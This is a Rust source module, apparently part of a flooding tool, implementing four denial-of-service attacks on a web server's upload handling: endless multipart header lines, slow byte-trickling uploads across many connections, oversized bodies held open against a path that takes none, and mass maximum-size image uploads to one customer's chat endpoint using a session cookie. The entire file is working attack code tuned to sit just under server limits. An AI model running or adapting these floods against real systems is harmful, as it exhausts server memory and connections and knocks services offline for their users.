//! Attacks by request bodies: endless part headers, trickling bytes, large bodies for paths that take none, pictures.

use crate::flood::host::{Target, read_answer, repeat};
use futures_util::future::join_all;
use std::io;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

const UPLOAD: &str = "/cgi-bin/media/upload?type=image";
const FORM: &str = "multipart/form-data; boundary=x";
/// The size of a large body, a little below the server's limit for uploads.
const LARGE: usize = 11 << 20;
/// The number of bytes per write.
const BLOCK: usize = 64 << 10;
/// How often each attack repeats.
const AGAIN: usize = 12;

/// Endless part headers, two bytes a line, in the largest body of an upload.
pub(super) async fn multipart_headers(target: &Target) {
    const AT_ONCE: usize = 3;
    let lines = b"a\n".repeat(BLOCK / 2);
    let upload = || {
        repeat(AGAIN, async |_| {
            let length = LARGE - (100 << 10);
            let mut stream = target.connect().await?;
            stream.write_all(&target.post(UPLOAD, FORM, length, "")).await?;
            stream.write_all(b"--x\r\n").await?;
            fill(&mut stream, &lines, length - 5).await?;
            read_answer(&mut stream).await.map(|_| ())
        })
    };
    join_all((0..AT_ONCE).map(|_| upload())).await;
}

/// As many uploads as the server stores concurrently; each begins a file and then sends a byte every five seconds.
pub(super) async fn trickled_uploads(target: &Target) {
    const AT_ONCE: usize = 32;
    const EVERY: Duration = Duration::from_secs(5);
    const BYTES: usize = 24;
    const PART: &[u8] = b"--x\r\nContent-Disposition: form-data; name=\"media\"; filename=\"a.png\"\r\n\
        Content-Type: image/png\r\n\r\n";
    let upload = || {
        repeat(AGAIN, async |_| {
            let mut stream = target.connect().await?;
            stream.write_all(&target.post(UPLOAD, FORM, 1 << 20, "")).await?;
            stream.write_all(PART).await?;
            for byte in &png(BYTES, 0) {
                stream.write_all(&[*byte]).await?;
                tokio::time::sleep(EVERY).await;
            }
            Ok(())
        })
    };
    join_all((0..AT_ONCE).map(|_| upload())).await;
}

/// Large bodies to a path that takes none, sent up to their last bytes. A server that keeps bodies in memory then has
/// all of them at the same time.
pub(super) async fn refused_bodies(target: &Target) {
    const AT_ONCE: usize = 60;
    const LAST: usize = 1_000;
    const HELD: Duration = Duration::from_secs(12);
    let zeros = vec![0; BLOCK];
    let body = || {
        repeat(AGAIN, async |_| {
            let mut stream = target.connect().await?;
            stream.write_all(&target.post("/nowhere", "image/png", LARGE, "")).await?;
            fill(&mut stream, &zeros, LARGE - LAST).await?;
            tokio::time::sleep(HELD).await;
            Ok(())
        })
    };
    join_all((0..AT_ONCE).map(|_| body())).await;
}

/// Pictures of one customer, each different and of the largest size.
pub(super) async fn pictures(target: &Target) {
    const AT_ONCE: usize = 8;
    const PICTURES: usize = 130;
    const SIZE: usize = 10 << 20;
    let sent = AtomicUsize::new(0);
    let zeros = vec![0; BLOCK];
    let sender = || {
        repeat(PICTURES.div_ceil(AT_ONCE), async |_| -> io::Result<()> {
            let n = sent.fetch_add(1, Ordering::Relaxed);
            let path =
                format!("/chat/api/{}/image?client_id=picture_{}_{n}", target.appid, std::process::id());
            let head = png(BLOCK, n);
            let mut stream = target.connect().await?;
            stream.write_all(&target.post(&path, "image/png", SIZE, &target.cookie_header())).await?;
            stream.write_all(&head).await?;
            fill(&mut stream, &zeros, SIZE - head.len()).await?;
            read_answer(&mut stream).await.map(|_| ())
        })
    };
    join_all((0..AT_ONCE).map(|_| sender())).await;
}

async fn fill(stream: &mut TcpStream, block: &[u8], mut length: usize) -> io::Result<()> {
    while length > 0 {
        let size = length.min(block.len());
        stream.write_all(&block[..size]).await?;
        length -= size;
    }
    Ok(())
}

/// A unique picture of `size` bytes, which breaks off.
#[must_use]
pub fn png(size: usize, n: usize) -> Vec<u8> {
    let mut bytes = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR\0\0\0\x10\0\0\0\x10\x08\x02\0\0\0".to_vec();
    // The rest counts as pixels.
    bytes.extend_from_slice(b"\0\0\0\0\x7f\xff\xff\xffIDAT");
    bytes.resize(64, 0);
    bytes.extend_from_slice(format!("{} {n}", std::process::id()).as_bytes());
    bytes.resize(size, 0);
    bytes
}
